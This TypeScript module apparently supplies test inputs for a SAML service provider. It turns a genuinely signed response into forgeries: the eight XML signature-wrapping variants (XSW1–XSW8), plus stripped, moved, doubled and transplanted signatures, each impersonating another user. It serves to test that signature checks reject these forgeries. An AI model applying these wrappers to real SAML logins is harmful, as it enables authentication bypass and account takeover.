/** What attackers make of a response that a hub has really signed. All work on text, as they would. */

const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s

function part(xml: string, pattern: RegExp): string {
  const [found] = pattern.exec(xml) ?? []
  if (found === undefined) throw new Error('There is no such part in this response')
  return found
}

/** The same text as of another user, under other IDs. */
function forged(xml: string): string {
  return xml
    .replaceAll('usr-1', 'usr-666')
    .replaceAll('ID="_response"', 'ID="_evilresponse"')
    .replaceAll('ID="_assertion"', 'ID="_evil"')
}

/** Puts text before the end of the first element whose end tag this is, or after its start tag. */
function beforeEnd(xml: string, tag: string, text: string): string {
  const at = xml.lastIndexOf(`</${tag}>`)
  return xml.slice(0, at) + text + xml.slice(at)
}

function afterStart(xml: string, text: string): string {
  const at = xml.indexOf('>') + 1
  return xml.slice(0, at) + text + xml.slice(at)
}

/**
 * The eight signature-wrapping variants (Somorovsky et al., "On Breaking SAML", 2012, by their common numbers): 1 and
 * 2 of a signed Response, 3 to 8 of a signed Assertion. Each leaves the signed text intact somewhere.
 */
export const wrappings: Readonly<
  Record<string, { of: 'response' | 'assertion'; wrap: (xml: string) => string }>
> = {
  'XSW1: the response inside the signature of a forged one': {
    of: 'response',
    wrap: (xml) => {
      const original = xml.replace(SIGNATURE, '')
      const signature = beforeEnd(part(xml, SIGNATURE), 'ds:Signature', original)
      return afterStart(forged(original), signature)
    },
  },
  'XSW2: the response beside its signature in a forged one': {
    of: 'response',
    wrap: (xml) => {
      const original = xml.replace(SIGNATURE, '')
      return afterStart(forged(original), original + part(xml, SIGNATURE))
    },
  },
  'XSW3: a forged assertion before the signed one': {
    of: 'assertion',
    wrap: (xml) => {
      const assertion = part(xml, ASSERTION)
      return xml.replace(assertion, forged(assertion.replace(SIGNATURE, '')) + assertion)
    },
  },
  'XSW4: the signed assertion inside a forged one': {
    of: 'assertion',
    wrap: (xml) => {
      const assertion = part(xml, ASSERTION)
      return xml.replace(
        assertion,
        beforeEnd(forged(assertion.replace(SIGNATURE, '')), 'saml:Assertion', assertion),
      )
    },
  },
  'XSW5: the signature in a forged assertion, what it signs after it': {
    of: 'assertion',
    wrap: (xml) => {
      const assertion = part(xml, ASSERTION)
      return xml.replace(assertion, forged(assertion) + assertion.replace(SIGNATURE, ''))
    },
  },
  'XSW6: the signature in a forged assertion, what it signs inside it': {
    of: 'assertion',
    wrap: (xml) => {
      const assertion = part(xml, ASSERTION)
      const signature = part(xml, SIGNATURE)
      const original = assertion.replace(SIGNATURE, '')
      return xml.replace(
        assertion,
        forged(assertion).replace(SIGNATURE, beforeEnd(signature, 'ds:Signature', original)),
      )
    },
  },
  'XSW7: a forged assertion in Extensions': {
    of: 'assertion',
    wrap: (xml) => {
      const assertion = part(xml, ASSERTION)
      const extensions = `<samlp:Extensions>${forged(assertion.replace(SIGNATURE, ''))}</samlp:Extensions>`
      return xml.replace(assertion, extensions + assertion)
    },
  },
  'XSW8: the signed assertion in an Object of the forged one’s signature': {
    of: 'assertion',
    wrap: (xml) => {
      const assertion = part(xml, ASSERTION)
      const object = `<ds:Object>${assertion.replace(SIGNATURE, '')}</ds:Object>`
      const signature = beforeEnd(part(xml, SIGNATURE), 'ds:Signature', object)
      return xml.replace(assertion, forged(assertion).replace(SIGNATURE, signature))
    },
  },
}

/** A response with a forged assertion as the only element of that name: the signed text hides under another. */
export function disguise(xml: string): string {
  const assertion = part(xml, ASSERTION)
  const hidden = assertion
    .replace(SIGNATURE, '')
    .replace('<saml:Assertion ', '<saml:Advice ')
    .replace('</saml:Assertion>', '</saml:Advice>')
  return xml.replace(assertion, `<samlp:Extensions>${hidden}</samlp:Extensions>${forged(assertion)}`)
}

/** The assertion of one response in another, whose signature stays. */
export function transplant(from: string, to: string): string {
  return to.replace(ASSERTION, part(from, ASSERTION).replaceAll('$', '$$$$'))
}

/** Without any signature. */
export function unsigned(xml: string): string {
  return xml.replace(new RegExp(SIGNATURE, 'gs'), '')
}

/** The first signature moved to the end of another element of the assertion. */
export function displaced(xml: string): string {
  return xml.replace(SIGNATURE, '').replace('</saml:Subject>', `${part(xml, SIGNATURE)}</saml:Subject>`)
}

/** The first signature twice. */
export function doubled(xml: string): string {
  const signature = part(xml, SIGNATURE)
  return xml.replace(signature, signature + signature)
}
